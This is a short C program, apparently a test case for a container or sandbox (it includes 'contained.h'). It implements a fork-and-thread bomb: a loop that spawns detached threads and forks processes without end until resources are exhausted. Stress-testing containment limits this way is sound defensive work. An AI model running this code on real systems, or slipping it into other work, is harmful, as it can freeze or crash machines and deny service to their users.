/* Starts threads and processes for ever, in all of them. */
#include "contained.h"
#include <pthread.h>
static void *multiply(void *nothing) {
    for (;;) {
        pthread_t thread;
        if (!pthread_create(&thread, NULL, multiply, nothing)) pthread_detach(thread);
        fork();
    }
}
int main(void) { multiply(NULL); }
